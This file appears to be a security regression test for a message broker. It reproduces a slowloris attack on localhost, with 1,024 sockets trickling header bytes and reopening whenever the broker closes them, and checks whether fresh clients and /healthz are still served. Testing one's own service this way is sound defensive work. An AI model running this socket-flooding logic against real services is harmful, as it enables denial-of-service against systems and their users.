/**
 * Issue 20, point 4: "slowloris locks everyone out". 1,024 TCP sockets from 127.0.0.1 (the
 * default maxUnauthenticatedConnections) each send the start of a request head, then one more
 * header byte every 1 to 2 s, for 30 s; a socket the broker closes is opened again (an
 * attacker keeps the crowd full). Before, trickling bytes reset the handshake timeout and the
 * cap was global: fresh clients and /healthz on the broker port got ECONNRESET while the crowd
 * lasted. Every second during the crowd, a fresh client (alternately from 127.0.0.2, another
 * machine to the broker, and from 127.0.0.1, the crowd's own address) connects and registers
 * an id, and GET /healthz is asked (from 127.0.0.2). The healthy pair connected before the crowd.
 */
import { request as httpRequest } from 'node:http';
import { connect } from 'node:net';
import { fileURLToPath } from 'node:url';
import { healthyPair, measure, prepare, RawPeer, report, runAttack, sleep, startBroker } from './lib/attack.js';

const CROWD = 1024;
const WINDOW_MS = 30_000;

function healthz(port, localAddress) {
  return new Promise((resolve) => {
    const req = httpRequest({ host: '127.0.0.1', port, path: '/healthz', localAddress, timeout: 5000 }, (res) => {
      res.resume();
      resolve(res.statusCode === 200 ? 'ok' : `status ${res.statusCode}`);
    });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', (error) => resolve(error.code ?? error.message));
    req.end();
  });
}

async function fresh(url, localAddress, peerId) {
  try {
    const peer = await RawPeer.connect(url, { localAddress });
    await peer.register(peerId);
    peer.close();
    return 'ok';
  } catch (error) {
    return error?.code ?? String(error?.message ?? error).slice(0, 60);
  }
}

const tally = (results) => {
  const out = {};
  for (const r of results) out[r] = (out[r] ?? 0) + 1;
  return out;
};

export default async function attack() {
  const { actions } = await prepare();
  const broker = await startBroker();
  const healthy = await healthyPair(broker.url, { actions });
  const port = Number(new URL(broker.url).port);
  const crowd = { opened: 0, closedByBroker: 0 };
  const probes = { fresh2: [], fresh1: [], healthz: [] };
  const figures = await measure({ broker }, async () => {
    const started = Date.now();
    const running = () => Date.now() - started < WINDOW_MS;
    const sockets = new Set();
    const open = () => {
      if (!running()) return;
      const socket = connect(port, '127.0.0.1');
      crowd.opened++;
      sockets.add(socket);
      socket.on('error', () => undefined);
      socket.once('connect', () => socket.write('GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: '));
      socket.once('close', () => {
        sockets.delete(socket);
        clearTimeout(socket.trickle);
        if (running()) {
          crowd.closedByBroker++;
          setTimeout(open, 50); // the attacker takes the slot again
        }
      });
      const trickle = () => {
        if (!running() || socket.destroyed) return;
        if (socket.writable) socket.write('x');
        socket.trickle = setTimeout(trickle, 1000 + Math.random() * 1000);
      };
      socket.trickle = setTimeout(trickle, 1000 + Math.random() * 1000);
    };
    for (let i = 0; i < CROWD; i++) {
      open();
      if (i % 128 === 127) await sleep(50);
    }
    await sleep(2000); // the crowd holds the slots
    for (let i = 0; running(); i++) {
      const t = Date.now();
      const [f, h] = await Promise.all([i % 2 === 0 ? fresh(broker.url, '127.0.0.2', `fresh-${i}`) : fresh(broker.url, '127.0.0.1', `fresh-${i}`), healthz(port, '127.0.0.2')]);
      (i % 2 === 0 ? probes.fresh2 : probes.fresh1).push(f);
      probes.healthz.push(h);
      await sleep(Math.max(0, 1000 - (Date.now() - t)));
    }
    return { cleanup: () => [...sockets].forEach((s) => (clearTimeout(s.trickle), s.destroy())) };
  });
  const counts = await healthy.stop();
  await broker.stop();
  const ok = (list) => `${list.filter((r) => r === 'ok').length}/${list.length}`;
  return report(
    `slowloris: ${CROWD.toLocaleString('en')} sockets trickling a header byte every 1-2 s for ${WINDOW_MS / 1000} s`,
    figures,
    counts,
    [
      `fresh client from 127.0.0.2 connected and registered: ${ok(probes.fresh2)} ${JSON.stringify(tally(probes.fresh2))}`,
      `fresh client from 127.0.0.1 (the crowd's address): ${ok(probes.fresh1)} ${JSON.stringify(tally(probes.fresh1))}`,
      `GET /healthz from 127.0.0.2: ${ok(probes.healthz)} ${JSON.stringify(tally(probes.healthz))}`,
      `the crowd: ${crowd.opened} sockets opened, ${crowd.closedByBroker} closed by the broker during the attack (and opened again)`,
    ],
    { outcome: `fresh client served ${ok(probes.fresh2)} (127.0.0.2), ${ok(probes.fresh1)} (127.0.0.1); /healthz served ${ok(probes.healthz)}; broker closed ${crowd.closedByBroker} trickling sockets` },
  );
}

if (process.argv[1] === fileURLToPath(import.meta.url)) await runAttack(attack);
